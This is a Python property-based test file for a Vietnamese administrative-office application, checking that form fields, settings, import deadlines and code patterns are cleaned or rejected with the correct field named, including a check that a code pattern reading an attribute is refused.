@given(field_name=st.sampled_from([*INSPECTION_FIELDS, *(f"findings.0.{name}" for name in FINDING_FIELDS)]),
       text=FORM_TEXT)
def test_inspection_form_stores_any_text_as_cleaned_or_names_the_field(
    fresh: Fresh, field_name: str, text: str,
) -> None:
    finding = FindingInput(description="Đến muộn 15 phút", responsible="Trưởng bộ phận")
    inspection = InspectionInput(inspected_on=date(2024, 6, 4), kind=InspectionKind.UNANNOUNCED,
                                 subject="Bộ phận Tiếp nhận và Trả kết quả")
    name = field_name.removeprefix("findings.0.")
    if name == field_name:
        inspection = replace(inspection, **{name: text})
    else:
        finding = replace(finding, **{name: text})
    inspection = replace(inspection, findings=(finding,))
    with fresh() as db:
        service = InspectionService(db, clock=lambda: NOW)
        result, error = attempt(db, lambda: service.record(inspection))
        if error is not None:
            assert isinstance(error, ValidationError) and set(error.errors) == {field_name}, error
            return
        record = service.get(result.id)
        kept = getattr(record.findings[0] if name != field_name else record, name)
        if name == "inspectors":
            assert kept == "\n".join(line for line in map(clean, text.splitlines()) if line)
        elif name in ("kind", "subject_kind", "measure"):  # a member chosen by its key or its label
            assert fold(text) in (kept.value, fold(kept.label)) if kept is not None else text == ""
        else:
            assert kept == clean(text)


# -- far-away years ---------------------------------------------------------------------------------------------


def test_a_plan_year_told_by_deadlines_in_the_year_9999_is_refused(fresh: Fresh) -> None:
    kind = BY_NAME["tasks"]
    with fresh() as db:
        path = write_csv(folder_of(db) / "nhiem-vu.csv", kind.header, [kind.cells(**{"Thời hạn": "31/12/9999"})])
        _result, error = attempt(db, lambda: TaskImportService(db, clock=lambda: NOW).import_tasks(path))
        assert isinstance(error, ValidationError)
        assert error.errors == {"year": "Thời hạn của 1 dòng (dòng 2) thuộc năm 9999, ngoài các năm kế hoạch (từ 2000 "
                                        "đến 2100): hãy sửa cột «Thời hạn» hoặc chọn năm kế hoạch (--year NĂM). Chưa "
                                        "ghi dữ liệu nào."}


def test_a_remedy_deadline_in_the_year_9999_is_named(fresh: Fresh) -> None:
    finding = FindingInput(description="Đến muộn 15 phút", remedy_deadline=date(9999, 12, 31))
    with fresh() as db:
        service = InspectionService(db, clock=lambda: NOW)
        before = contents(db)
        with pytest.raises(ValidationError) as caught:
            service.record(InspectionInput(inspected_on=date(2024, 6, 4), kind=InspectionKind.UNANNOUNCED,
                                           subject="Bộ phận Một cửa", findings=(finding,)))
        assert set(caught.value.errors) == {"findings.0.remedy_deadline"}
        assert contents(db) == before


def test_a_task_numbered_with_a_superscript_two_is_listed(fresh: Fresh) -> None:
    with fresh() as db:
        service = PlanService(db, clock=lambda: NOW)
        service.save_plan(year=2024)
        added = service.add_task(year=2024, task=TaskInput(title="Rà soát thủ tục", area=ReformArea.PROCEDURES,
                                                           number="1²"))
        assert [task.number for task in service.tasks(2024)] == [added.number] == ["1²"]




def _save_with_nul(db: Database, form: str) -> None:
    """Save the form with one required text holding only a NUL character (and spaces)."""
    nul = " \x00 "
    if form == "applicant_name":
        ReceptionService(db, clock=lambda: NOW).register(NewDossier(procedure_code="1.004873", applicant_name=nul))
    elif form == "title":
        plans = PlanService(db, clock=lambda: NOW)
        plans.save_plan(year=2024)
        plans.add_task(year=2024, task=TaskInput(title=nul, area=ReformArea.PROCEDURES))
    else:
        finding = FindingInput(description=nul if form == "findings.0.description" else "Đến muộn 15 phút")
        subject = nul if form == "subject" else "Bộ phận Một cửa"
        InspectionService(db, clock=lambda: NOW).record(InspectionInput(
            inspected_on=date(2024, 6, 4), kind=InspectionKind.UNANNOUNCED, subject=subject, findings=(finding,)))


@pytest.mark.parametrize("field_name", ["applicant_name", "title", "subject", "findings.0.description"])
def test_a_nul_character_alone_is_an_empty_field(fresh: Fresh, field_name: str) -> None:
    with fresh() as db:
        before = contents(db)
        with pytest.raises(ValidationError) as caught:
            _save_with_nul(db, field_name)
        assert set(caught.value.errors) == {field_name}
        assert {name: state for name, state in contents(db).items() if name not in ("plan", "audit_log")} == {
            name: state for name, state in before.items() if name not in ("plan", "audit_log")}


# -- the unit's settings, and what they feed ----------------------------------------------------------------

SETTING_FIELDS = ("name", "place", "code", "parent", "address", "phone", "chair_name", "signer_name", "signer_title",
                  "signer_authority", "dossier_code_pattern")


@settings(PROPERTY, max_examples=40)
@given(field_name=st.sampled_from(SETTING_FIELDS), text=st.one_of(FORM_TEXT, st.sampled_from([
    "000.21.31.h56", "{unit}{yymmdd}{seq}", "{seq:04d}", "{unit}-{yymmdd}-{seq:Z}", "{unit}-{yymmdd}-{seq}-{x}"])))
def test_settings_store_any_text_as_cleaned_or_name_the_field_and_the_desk_still_registers(
    fresh: Fresh, field_name: str, text: str,
) -> None:
    with fresh() as db:
        service = SettingsService(db)
        _result, error = attempt(db, lambda: service.update(**{field_name: text}))
        if error is not None:
            assert isinstance(error, ValidationError) and set(error.errors) == {field_name}, error
            return
        kept = getattr(service.load(), field_name)
        assert kept == (clean(text).upper() if field_name == "code" else clean(text))
        desk = ReceptionService(db, clock=lambda: NOW)
        registered, error = attempt(db, lambda: desk.register(NewDossier(procedure_code="1.004873",
                                                                         applicant_name="Nguyễn Thị Ưng")))
        if error is not None:  # no unit code, no dossier code
            assert field_name == "code" and not kept and set(error.errors) == {"unit_code"}
        else:
            assert desk.get(registered.code).code == registered.code


def test_a_code_pattern_reading_an_attribute_is_refused_or_replaced(fresh: Fresh) -> None:
    with fresh() as db:
        try:
            SettingsService(db).update(dossier_code_pattern="{unit}-{yymmdd}-{seq:04d}{unit.x}")
        except ValidationError as exc:
            assert set(exc.errors) == {"dossier_code_pattern"}
            return
        registered = ReceptionService(db, clock=lambda: NOW).register(
            NewDossier(procedure_code="1.004873", applicant_name="Nguyễn Thị Ưng"))
        assert registered.code == "000.21.31.H56-250115-0001"


def test_a_5000_character_name_is_refused_or_its_receipt_printed(fresh: Fresh) -> None:
    with fresh() as db:
        try:
            registered = ReceptionService(db, clock=lambda: NOW).register(
                NewDossier(procedure_code="1.004873", applicant_name="Nguyễn Thị Ưng " * 333))
        except ValidationError as exc:
            assert set(exc.errors) == {"applicant_name"}
            return
        printed = PrintingService(db, clock=lambda: NOW).print_paper(registered.code, PaperKind.RECEIPT)
        assert printed.pdf.startswith(b"%PDF")
